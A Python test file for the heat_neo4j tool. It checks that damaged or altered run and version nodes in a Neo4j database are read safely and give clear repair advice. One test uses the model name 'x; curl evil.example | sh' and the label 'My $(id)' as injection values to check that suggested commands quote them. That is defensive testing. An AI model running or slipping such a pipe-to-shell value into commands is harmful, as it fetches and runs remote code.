"""A run's node that somebody has changed is read as far as it can be, and is no defect of ours."""

import json
import re
from dataclasses import fields
from functools import partial
from types import SimpleNamespace

import pytest
from hypothesis import given
from hypothesis import strategies as st
from neo4j.spatial import CartesianPoint
from neo4j.time import Date, DateTime, Duration
from prometheus_client import generate_latest

from heat_neo4j.cli.commands.runs import _row
from heat_neo4j.cli.report import describe
from heat_neo4j.database.naming import WriteNames
from heat_neo4j.database.projection import Projection
from heat_neo4j.database.publish.inspection import _state
from heat_neo4j.database.read.advice import key_advice
from heat_neo4j.database.runs import _MODEL, DAMAGED, Bookkeeping, RunRecord, _camel, read_bookkeeping
from heat_neo4j.database.versions import (
    _KINDS,
    at_rest,
    checked,
    labels_of,
    previous_of,
    published,
    rolled_back,
    without_runs,
)
from heat_neo4j.errors import ProjectionError
from heat_neo4j.pipeline.published_model import model_of
from heat_neo4j.worker.metrics import Metrics

NAMES = [_camel(part.name) for part in fields(RunRecord) if part.name != "damaged"]
SCALARS = st.one_of(st.text(max_size=5), st.integers(-(2**63), 2**63 - 1), st.floats(), st.booleans())
TEXTS = st.sampled_from(["{", "[]", "{}", "null", "3", '{"mean": "x", "auroc": []}', "[" * 5000, "1" * 5000])
OTHERS = st.sampled_from(
    [b"\0", Date(1, 1, 1), DateTime(9999, 12, 31, 23, 59, 59, 999_999_999), Duration(months=2**32),
     CartesianPoint((1.0, 2.0))]
)  # fmt: skip
VALUES = st.one_of(SCALARS, st.lists(SCALARS, max_size=2), TEXTS, OTHERS)
RUN = "20260801T060000Z-5f3a9c1e7b24"
GOOD = {"runId": RUN, "model": "m", "parts": ["embedding"], "status": "complete"}
VERSION = {
    "run": RUN, "space": RUN, "embeddingProperty": "heatEmbedding", "radiusProperty": "heatRadius",
    "runProperty": "heatRun", "vectorProperty": "heatEmbedding", "coordinates": "poincare", "dimension": 2,
    "linkRun": RUN, "linkType": "HEAT_PREDICTED", "indexes": [], "core": [], "nodeLabels": ["A"],
    "nodeCount": 1,
}  # fmt: skip
VERSION_NAMES = [*_KINDS, "previous", "previousRun", "number", "model"]


@given(st.dictionaries(st.sampled_from(NAMES), VALUES))
def test_whatever_a_node_holds_it_can_be_read_shown_and_written(properties):
    run = RunRecord.from_node({**GOOD, **properties})
    list(describe(run, stages=True))
    _row(run)
    run.to_dict()
    if run.damaged:
        with pytest.raises(ProjectionError, match=r"is damaged .*heat clear --run"):
            run.whole()


def read_or_refused(read, model):
    """Return what is read of a model; None if an error says that a node is damaged, and what to do."""
    try:
        return read(model)
    except ProjectionError as error:
        told = str(error)
    assert re.fullmatch(r".+ is damaged \(.+\): `heat clear --.+`.+", told, re.DOTALL), told
    return None


@given(
    st.dictionaries(st.sampled_from(VERSION_NAMES), VALUES, max_size=3),
    st.dictionaries(st.sampled_from(_MODEL), VALUES, max_size=2),
    st.dictionaries(st.sampled_from(NAMES), VALUES, max_size=2),
    st.one_of(st.none(), st.dictionaries(st.sampled_from(VERSION_NAMES), VALUES | st.none(), max_size=3)),
)
def test_whatever_bookkeeping_holds_it_is_read_or_one_error_says_what_to_do(version, model, run, previous):
    """A version that is read is whole; every use of what is left of a damaged one works."""
    kept = {} if previous is None else {"previous": json.dumps({**VERSION, **previous}, default=str)}
    models = [{"model": {"name": "m", **model}, "version": {**VERSION, **kept, **version}}]
    row = {"models": models, "runs": [{**GOOD, **run}]}
    book = read_bookkeeping(SimpleNamespace(run=lambda *_: SimpleNamespace(records=[row])))
    for name in {"m", *(node["name"] for node in book.models)}:
        assert checked(read_or_refused(book.published, name) or {})[1] == ()
        read_or_refused(book.published_run, name)
        left, names = book.remains(name), WriteNames("n")
        book.names(name)
        _state(book, name)
        labels_of(left)
        without_runs(left, [RUN])
        at_rest(published(left, {}, names, index=True), {})
        rolled_back(left, names, index=True)
        shown = Metrics(name)
        shown.look(SimpleNamespace(bookkeeping=lambda: book))
        generate_latest(shown.registry)


def test_what_is_whole_comes_back():
    run = RunRecord(
        run_id="r", model="m", parts=("embedding",), status="complete", labels=("A",), seed="9" * 30,
        loss_curve=(1.5, 2.0), stage_seconds={"read": 1.5, "train": 2}, quality={"auroc": None},
        attribute_recipe=({"name": "x"},), projection={"labels": ["A"]},
    )  # fmt: skip
    again = RunRecord.from_node(run.to_node())
    assert again.damaged == ()
    assert (again.whole().labels, again.seed, again.loss_curve) == (("A",), "9" * 30, (1.5, 2.0))
    assert again.stage_seconds == run.stage_seconds


@pytest.mark.parametrize(
    "parameters",
    [
        {"alpha": "x"}, {"alpha": 2.0}, {"n_components": 10**30}, {"walks_per_node": 0}, {"sigma": None},
        {"learning_rate": float("nan")},
    ],
)  # fmt: skip
def test_parameters_that_no_run_had_are_damage(parameters):
    run = RunRecord(run_id="r", model="m", parts=(), status="complete", parameters=parameters, seed=3)
    with pytest.raises(ProjectionError, match=r"the node of run r is damaged \(parameters\)"):
        model_of(run)


@pytest.mark.parametrize("seed", [-1, "-1", "", "x"])
def test_a_seed_that_no_run_had_is_damage(seed):
    run = RunRecord(run_id="r", model="m", parts=(), status="complete", seed=seed)
    with pytest.raises(ProjectionError, match="the node of run r is damaged"):
        model_of(run)


@pytest.mark.parametrize("previous", ["{", "[1]", "null", 3, [1], "[" * 100_000])
def test_a_way_back_that_cannot_be_read_is_none(previous):
    assert previous_of({"run": "r", "previous": previous}) == {}


@pytest.mark.parametrize("values", [["a", "a"], ["a", "aStaged"], ["heatRun"]])
def test_names_of_a_version_that_collide_are_not_used(values):
    book = Bookkeeping([{"name": "heat", "version": 1, "valueProperties": values}], ())
    assert book.names("heat") == WriteNames("heat")


def _constraints(rows, statement, parameters=None, *, doing):
    """Answer with unique properties, which all nodes have."""
    return rows if "CONSTRAINTS" in statement else [{"lacks": False}]


def test_a_command_in_a_message_quotes_names_that_others_chose():
    """Whoever may write to the database chooses them, and somebody else copies the command."""
    model = "x; curl evil.example | sh"
    book = Bookkeeping([{"name": model, DAMAGED: ("space",)}], ())
    with pytest.raises(ProjectionError, match=re.escape(f"`heat clear --model '{model}'` removes")):
        book.published(model)
    rows = [{"label": label, "property": "id"} for label in ("My $(id)", "L" * 90, "Paper")]
    connection = SimpleNamespace(read=partial(_constraints, rows))
    (advice,) = key_advice(connection, Projection(), {row["label"] for row in rows})
    assert advice.endswith("unique here: --key 'My $(id)=id' --key Paper=id")
    rows[:] = [{"label": f"L{number}", "property": "id"} for number in range(9)]
    (advice,) = key_advice(connection, Projection(), {row["label"] for row in rows})
    assert advice.count("--key") == 9  # copied, they name every node


def test_a_key_that_cannot_be_used_has_the_unique_ones_beside_it():
    rows = [{"label": "Paper", "property": "id"}]
    connection, projection = SimpleNamespace(read=partial(_constraints, rows)), Projection(key="title")
    assert key_advice(connection, projection, {"Paper"}) == ()
    assert key_advice(connection, projection, {"Paper"}, is_wrong=True) == ("unique here: --key Paper=id",)
